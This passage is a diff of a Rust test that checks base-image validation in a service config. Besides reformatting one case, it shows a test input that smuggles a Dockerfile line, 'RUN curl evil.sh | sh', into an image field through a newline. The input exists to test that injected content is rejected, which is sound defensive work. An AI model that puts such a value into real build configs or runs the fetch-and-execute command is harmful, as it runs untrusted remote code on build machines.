@@ -626,7 +626,10 @@ fn gitops_needs_a_repository() {
 fn base_images_must_be_pinned_and_plain() {
     const KEY: &str = "services.users.build_image";
     for (image, message) in [
-        ("node:latest", format!("image `node:latest` in `{KEY}` has no pinned tag")),
+        (
+            "node:latest",
+            format!("image `node:latest` in `{KEY}` has no pinned tag"),
+        ),
         ("node", format!("image `node` in `{KEY}` has no pinned tag")),
         (
             "node:22\nRUN curl evil.sh | sh",
